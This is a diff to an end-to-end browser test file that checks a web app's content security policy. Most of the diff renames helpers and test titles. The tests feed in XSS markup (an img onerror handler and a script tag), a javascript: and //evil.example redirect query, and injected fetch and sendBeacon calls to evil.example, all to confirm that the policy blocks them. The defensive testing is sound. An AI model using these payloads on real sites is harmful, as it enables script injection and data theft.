@@ -4,25 +4,25 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
-import { type Caller, givenCaller } from './support/caller.ts';
 import { openHostileShop } from './support/hostile-shop.ts';
+import { type ApiUser, givenApiUser } from './support/http-client.ts';
 import { sillage } from './support/processes.ts';
 import { expect, test } from './support/test.ts';
-import { settingsIn } from './support/world.ts';
+import { getSettings } from './support/world.ts';
 
 test.use({ file: 'browser-attacks' });
 
 const MARKUP = `<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script>"'\u202e`;
 
-interface Watched {
+interface WatchedWindow {
   ran?: number;
   violations?: string[];
 }
 
 /** Records what the page's policy blocks, from the first byte on. */
-async function watchPolicy(page: Page): Promise<void> {
+async function recordViolations(page: Page): Promise<void> {
   await page.addInitScript(() => {
-    const watched = globalThis as Watched;
+    const watched = globalThis as WatchedWindow;
     watched.violations = [];
     document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
       watched.violations?.push(`${violatedDirective} ${blockedURI}`),
@@ -30,10 +30,10 @@ async function watchPolicy(page: Page): Promise<void> {
   });
 }
 
-const violationsOf = (page: Page) => page.evaluate(() => (globalThis as Watched).violations ?? ['not watched']);
-const hasRun = (page: Page) => page.evaluate(() => (globalThis as Watched).ran === 1);
+const readViolations = (page: Page) => page.evaluate(() => (globalThis as WatchedWindow).violations ?? ['not watched']);
+const hasRun = (page: Page) => page.evaluate(() => (globalThis as WatchedWindow).ran === 1);
 
-const forVisitors = [
+const visitorPaths = [
   '/',
   '/login',
   '/register',
@@ -54,10 +54,10 @@ const forVisitors = [
   '/login?returnTo=javascript:globalThis.ran=1&next=//evil.example',
   '/api/docs',
 ];
-const forUsers = ['/dashboard', '/import', '/quiz', '/recommendations', '/account', '/notifications', '/settings'];
+const userPaths = ['/dashboard', '/import', '/quiz', '/recommendations', '/account', '/notifications', '/settings'];
 
-test.describe('the policy of every page', () => {
-  test('is violated by nothing of ours, and lets no text of an address, a user or a catalogue run', async ({
+test.describe('content security policy', () => {
+  test('content security policy is violated by no page, and no text of a URL, user or catalogue runs as script', async ({
     world,
     origin,
   }) => {
@@ -65,26 +65,26 @@ test.describe('the policy of every page', () => {
     world.closing(() => shop.close());
     const file = join(world.folder, 'hostile.json');
     await writeFile(file, JSON.stringify(shop.catalogue));
-    await sillage(['import', file], settingsIn(world));
-    const amber = await givenCaller(world, origin, 'amber');
+    await sillage(['import', file], getSettings(world));
+    const amber = await givenApiUser(world, origin, 'amber');
     const page = await world.newPage();
     const dialogs: string[] = [];
     page.on('dialog', (dialog) => {
       dialogs.push(dialog.message());
       void dialog.dismiss();
     });
-    await watchPolicy(page);
+    await recordViolations(page);
     const problems: string[] = [];
-    const visit = async (path: string) => {
+    const checkPath = async (path: string) => {
       await page.goto(origin + path);
       await page.waitForLoadState('networkidle');
       // The shop of this test has no TLS, and the policy allows pictures only over https.
-      const violations = (await violationsOf(page)).filter((each) => !/^img-src http:\S+\/picture\/\w+$/.test(each));
+      const violations = (await readViolations(page)).filter((each) => !/^img-src http:\S+\/picture\/\w+$/.test(each));
       problems.push(...violations.map((violation) => `${path}: ${violation}`));
       if (await hasRun(page)) problems.push(`${path}: a script ran`);
       if (new URL(page.url()).origin !== origin) problems.push(`${path}: left for ${page.url()}`);
     };
-    for (const path of forVisitors) await visit(path);
+    for (const path of visitorPaths) await checkPath(path);
     const cookies = amber
       .cookie()
       .split('; ')
@@ -92,16 +92,16 @@ test.describe('the policy of every page', () => {
     await page.context().addCookies(cookies.map(([name = '', value = '']) => ({ name, value, url: origin })));
     await page.goto(origin);
     const id = await fillWithMarkup(amber);
-    for (const path of [...forUsers, `/fragrances/${id}`, '/explore?keyword=onclick']) await visit(path);
+    for (const path of [...userPaths, `/fragrances/${id}`, '/explore?keyword=onclick']) await checkPath(path);
     const { share } = await amber.api.sharing.show({ params: { userId: amber.id } });
-    await visit(new URL(share?.url ?? '').pathname);
+    await checkPath(new URL(share?.url ?? '').pathname);
     expect(problems).toEqual([]);
     expect(dialogs).toEqual([]);
   });
 
-  test('blocks what an injection would try', async ({ world, origin }) => {
+  test('content security policy blocks injected scripts, frames, forms and requests', async ({ world, origin }) => {
     const page = await world.newPage();
-    await watchPolicy(page);
+    await recordViolations(page);
     const loaded: string[] = [];
     page.on('requestfinished', (request) => loaded.push(request.url()));
     for (const path of ['/', '/login', '/shared/x', '/api/docs', '/unsubscribe/x']) {
@@ -128,14 +128,17 @@ test.describe('the policy of every page', () => {
         await fetch('https://evil.example/fetch').catch(() => null);
         navigator.sendBeacon('https://evil.example/beacon');
       });
-      await expect.poll(async () => (await violationsOf(page)).length).toBeGreaterThan(7);
+      await expect.poll(async () => (await readViolations(page)).length).toBeGreaterThan(7);
       expect([path, await hasRun(page)]).toEqual([path, false]);
       expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
     }
     expect(loaded.filter((url) => !url.startsWith(origin))).toEqual([]);
   });
 
-  test('lets no other site frame a page or keep a hold of its window', async ({ world, origin }) => {
+  test('content security policy keeps other sites from framing a page or keeping its window', async ({
+    world,
+    origin,
+  }) => {
     const page = await world.newPage();
     const paths = ['/', '/dashboard', '/api/docs', '/unsubscribe/x', '/shared/x', '/login'];
     const frames = paths.map((path) => `<iframe src="${origin}${path}"></iframe>`).join('');
@@ -160,7 +163,7 @@ test.describe('the policy of every page', () => {
 });
 
 /** Puts markup into the user's texts and watches the hostile catalogue; returns a fragrance id. */
-async function fillWithMarkup({ api, id: userId, email }: Caller): Promise<number> {
+async function fillWithMarkup({ api, id: userId, email }: ApiUser): Promise<number> {
   const short = MARKUP.slice(0, 70);
   await api.account.updateProfile({ params: { id: userId }, body: { email, firstName: short, lastName: short } });
   const { content } = await api.catalogue.filter({ query: { keyword: 'onclick', size: 50 } });
